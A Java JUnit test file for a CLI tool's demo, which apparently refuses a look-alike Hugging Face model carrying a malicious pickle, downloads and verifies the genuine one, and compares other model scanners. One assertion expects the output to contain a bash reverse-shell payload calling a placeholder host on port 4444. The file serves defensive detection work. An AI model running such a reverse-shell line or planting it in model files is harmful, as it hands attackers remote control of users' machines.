package io.weighbridge.cli.internal.demo;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.DisabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;

/** The demo as a process of its own, from the classes under test. */
class DemoCommandTest {
  @TempDir Path temp;

  @Test
  void theLookAlikeIsRefusedTheGenuineModelArrivesAndNothingStays() throws Exception {
    Process demo = start(List.of("--exit", "--own-client"));
    String out = read(demo);
    assertThat(demo.waitFor(60, TimeUnit.SECONDS)).isTrue();
    assertThat(demo.exitValue()).as(out).isZero();
    assertThat(out.lines()).hasSizeLessThanOrEqualTo(40);
    assertThat(out)
        .contains("1 edit from " + DemoModels.GENUINE)
        .containsPattern("who +qa-tutorials .*an organisation; account of [-0-9]+; 1 model\\.")
        .contains("The publisher has been known for 11 days only")
        .contains("pytorch_model.bin!archive/data.pkl, byte 86")
        .contains(
            "os.system(\"bash -c 'bash -i >& /dev/tcp/shell.qa-tutorials.invalid/4444 0>&1'\")")
        .containsPattern("took +\\d+ ms")
        .containsPattern("Error: .*Did you mean: hf download " + DemoModels.GENUINE + "\n")
        .contains("arrived  7 files")
        .containsPattern(
            "verified  7 files, counts until \\d{4}-\\d\\d-\\d\\d; with one byte of config.json"
                + " changed: not verified, changed-files")
        .containsPattern("console: http://127\\.0\\.0\\.1:\\d+/console/");
    assertThat(left()).isEmpty();
  }

  @Test
  void anInstalledClientIsUsedWithoutTheUsersTokenAndHome() throws Exception {
    Path bin = Files.createDirectories(temp.resolve("bin"));
    Path hf = bin.resolve("hf");
    Files.writeString(
        hf,
        """
        #!/bin/sh
        case $1 in version) echo "Version: 9.8.7"; exit 0 ;; esac
        echo "token:${HF_TOKEN:-none} home:$HF_HOME endpoint:$HF_ENDPOINT asks:$2"
        exit 1
        """);
    assertThat(hf.toFile().setExecutable(true)).isTrue();
    Process demo = start(List.of("--exit"));
    String out = read(demo);
    assertThat(demo.waitFor(60, TimeUnit.SECONDS)).isTrue();
    assertThat(out)
        .contains("huggingface_hub 9.8.7")
        .contains("token:none")
        .contains("asks:" + DemoModels.LOOK_ALIKE)
        .doesNotContain("home:" + System.getProperty("user.home") + "\n")
        .contains("the genuine model did not arrive");
    assertThat(demo.exitValue()).isEqualTo(2); // that client brings nothing
    assertThat(left()).isEmpty();
  }

  @Test
  @DisabledOnOs(OS.WINDOWS)
  void otherScannersOnThePathAnswerInOneLineEach() throws Exception {
    scanner("picklescan", "exit 1");
    scanner("modelscan", "exit 0");
    scanner("fickling", "test \"$1\" = --check-safety && test -s \"$2\" && exit 2");
    scanner("modelaudit", "test \"$NO_ANALYTICS$1\" = 1scan && exit 1");
    Process demo = start(List.of("--exit", "--own-client"));
    String out = read(demo);
    assertThat(demo.waitFor(60, TimeUnit.SECONDS)).isTrue();
    assertThat(demo.exitValue()).as(out).isZero();
    assertThat(out.lines()).hasSizeLessThanOrEqualTo(40);
    assertThat(out)
        .contains("6  The same file through the other scanners on this machine")
        .containsPattern("picklescan flags it, within \\d+ ms")
        .containsPattern("modelscan +finds nothing, within")
        .containsPattern("fickling +cannot read it \\(exit code 2\\)")
        .containsPattern("modelaudit flags it");
    assertThat(left()).isEmpty();
  }

  private void scanner(String name, String script) throws IOException {
    Path file = Files.createDirectories(temp.resolve("bin")).resolve(name);
    Files.writeString(file, "#!/bin/sh\n" + script + "\n");
    assertThat(file.toFile().setExecutable(true)).isTrue();
  }

  @Test
  @DisabledOnOs(OS.WINDOWS)
  void ctrlCEndsItAndRemovesEverything() throws Exception {
    Process demo = start(List.of("--own-client"));
    try (var lines = demo.inputReader(StandardCharsets.UTF_8)) {
      String line = lines.readLine();
      while (line != null && !line.contains("Enter or Ctrl-C")) {
        line = lines.readLine();
      }
      assertThat(line).isNotNull();
      assertThat(left()).isNotEmpty();
      demo.destroy(); // SIGTERM, which the JVM treats like Ctrl-C's SIGINT
      assertThat(demo.waitFor(30, TimeUnit.SECONDS)).isTrue();
    }
    assertThat(left()).isEmpty();
  }

  private Process start(List<String> options) throws IOException {
    Path tmp = Files.createDirectories(temp.resolve("tmp"));
    var command =
        new ArrayList<>(
            List.of(
                Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "-XX:+UseSerialGC",
                "-XX:TieredStopAtLevel=1",
                "--enable-native-access=ALL-UNNAMED",
                "-Djava.io.tmpdir=" + tmp,
                "-cp",
                System.getProperty("java.class.path"),
                "io.weighbridge.cli.Main",
                "demo"));
    command.addAll(options);
    var builder = new ProcessBuilder(command).redirectErrorStream(true);
    builder.environment().put("HF_TOKEN", "hf_of_the_user");
    builder.environment().put("PATH", temp.resolve("bin") + ":" + System.getenv("PATH"));
    return builder.start();
  }

  private static String read(Process process) throws IOException {
    return new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
  }

  private List<String> left() throws IOException {
    try (Stream<Path> files = Files.list(temp.resolve("tmp"))) {
      return files.map(file -> file.getFileName().toString()).sorted().toList();
    }
  }
}
